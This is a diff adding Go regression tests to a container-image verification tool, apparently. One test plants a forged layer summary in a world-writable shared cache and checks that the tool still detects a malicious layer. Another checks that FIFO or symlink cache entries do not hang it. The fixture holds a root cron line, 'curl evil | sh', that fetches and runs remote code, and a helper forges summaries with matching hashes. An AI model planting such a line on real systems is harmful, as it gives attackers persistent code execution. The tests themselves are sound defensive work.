@@ -3,15 +3,21 @@ package main
 import (
 	"archive/tar"
 	"bytes"
+	"context"
 	"crypto/rand"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
 	"fmt"
 	"io"
 	"net/http"
 	"os"
+	"os/exec"
 	"path"
 	"path/filepath"
 	"strconv"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -377,6 +383,110 @@ func TestCacheVisibleTrainFileInBase(t *testing.T) {
 		fails(t, exitVerification, nil, []string{"verify", ref, "--quiet", "--cache", cache}, "extra.py")
 		if n := w.reg.Stats().BlobGets[w.big.String()]; n == 0 {
 			t.Errorf("verify %d did not read the master layer that adds a train file", i+1)
+		}
+	}
+}
+
+// TestCacheSharedDirPlantedSummary performs the attack of issue 25 §3:
+// another user plants, in a cache directory anyone may write, a forged
+// summary of a layer that writes /etc/cron.d, saying it touches nothing
+// outside the train paths. check-base with that cache must still read
+// the layer and fail: a cache directory that is not the running user's
+// alone is ignored, with one warning naming it.
+func TestCacheSharedDirPlantedSummary(t *testing.T) {
+	w := newWorld(t)
+	master := openRef(t, sampleMaster, oci.Options{})
+	dirtyImg := appendFiles(t, master, map[string][]byte{"etc/cron.d/evil": []byte("* * * * * root curl evil | sh\n")})
+	dirty := w.path("dirty.tar")
+	writeRef(t, dirtyImg, dirty, oci.Options{})
+	ls, err := dirtyImg.Layers()
+	testutil.Must(t, err)
+	evil, err := ls[len(ls)-1].Digest()
+	testutil.Must(t, err)
+
+	// The attacker's own run makes the summaries, which the attacker edits.
+	own := w.path("own-cache")
+	fails(t, exitVerification, []string{"PHTOCI_CACHE=" + own}, []string{"check-base", dirty, sampleMaster}, "/etc/cron.d/evil")
+	shared := w.path("shared-cache")
+	testutil.Must(t, os.Mkdir(shared, 0o777))
+	testutil.Must(t, os.Chmod(shared, 0o777))
+	forged := 0
+	for _, e := range testutil.Must1(os.ReadDir(own))(t) {
+		b := testutil.Must1(os.ReadFile(filepath.Join(own, e.Name())))(t)
+		if strings.HasPrefix(e.Name(), evil.Algorithm+"-"+evil.Hex) {
+			b = forgeSummary(t, b)
+			forged++
+		}
+		testutil.Must(t, os.WriteFile(filepath.Join(shared, e.Name()), b, 0o666))
+	}
+	if forged == 0 {
+		t.Fatalf("no summary of the layer %s to forge", evil)
+	}
+	r := phtoci(t, "", []string{"PHTOCI_CACHE=" + shared}, "check-base", dirty, sampleMaster, "--quiet")
+	if r.code != exitVerification || !strings.Contains(r.stderr, "/etc/cron.d/evil") {
+		t.Errorf("check-base with the planted summary: exit %d, stderr %q; want %d naming /etc/cron.d/evil", r.code, r.stderr, exitVerification)
+	}
+	if strings.Count(r.stderr, "warning") != 1 || !strings.Contains(r.stderr, shared) || !strings.Contains(r.stderr, "not private") {
+		t.Errorf("stderr %q: want one warning that %s is not private", r.stderr, shared)
+	}
+}
+
+// forgeSummary rewrites a layer summary (a header line "VERSION SHA256",
+// then JSON) to say that the layer touches nothing outside the train
+// paths, with a matching header.
+func forgeSummary(t *testing.T, b []byte) []byte {
+	t.Helper()
+	header, body, ok := bytes.Cut(b, []byte("\n"))
+	if !ok {
+		t.Fatalf("summary %q has no header line", b)
+	}
+	var s map[string]any
+	testutil.Must(t, json.Unmarshal(body, &s))
+	delete(s, "outside")
+	delete(s, "touchesOutside")
+	body = testutil.Must1(json.Marshal(s))(t)
+	sum := sha256.Sum256(body)
+	version, _, _ := strings.Cut(string(header), " ")
+	return append([]byte(version+" "+hex.EncodeToString(sum[:])+"\n"), body...)
+}
+
+// TestCacheEntryFIFO: cache entries replaced by FIFOs (issue 30: verify
+// and pre-run hung reading them) or symlinks are not read: verify and
+// pre-run finish and succeed. The timeout only fails the test.
+func TestCacheEntryFIFO(t *testing.T) {
+	w := newCacheWorld(t, 1<<20, nil)
+	train := w.train(t, "a") // no label: summaries of the master's layers are used
+	cache := w.path("cache")
+	ok(t, "verify", train, "--quiet", "--cache", cache)
+	ents := testutil.Must1(os.ReadDir(cache))(t)
+	if len(ents) == 0 {
+		t.Fatal("verify stored no layer summary")
+	}
+	decoy := w.path("decoy")
+	testutil.Must(t, os.WriteFile(decoy, []byte("not a summary"), 0o600))
+	for i, e := range ents {
+		p := filepath.Join(cache, e.Name())
+		testutil.Must(t, os.Remove(p))
+		if i%2 == 0 {
+			testutil.Must(t, syscall.Mkfifo(p, 0o600))
+		} else {
+			testutil.Must(t, os.Symlink(decoy, p))
+		}
+	}
+	for _, args := range [][]string{
+		{"verify", train, "--quiet", "--cache", cache},
+		append([]string{"pre-run", train, "-o", "oci-archive:" + w.path("dec.tar"), "--cache", cache}, w.stationArgs("st1")...),
+	} {
+		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+		cmd := exec.CommandContext(ctx, phtociBin, args...)
+		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "TMPDIR=" + t.TempDir()}
+		out, err := cmd.CombinedOutput()
+		if ctx.Err() != nil {
+			t.Fatalf("%s hung on the FIFO cache entries (killed after 2 min)", args[0])
+		}
+		cancel()
+		if err != nil {
+			t.Errorf("%s: %v\n%s", args[0], err, out)
 		}
 	}
 }
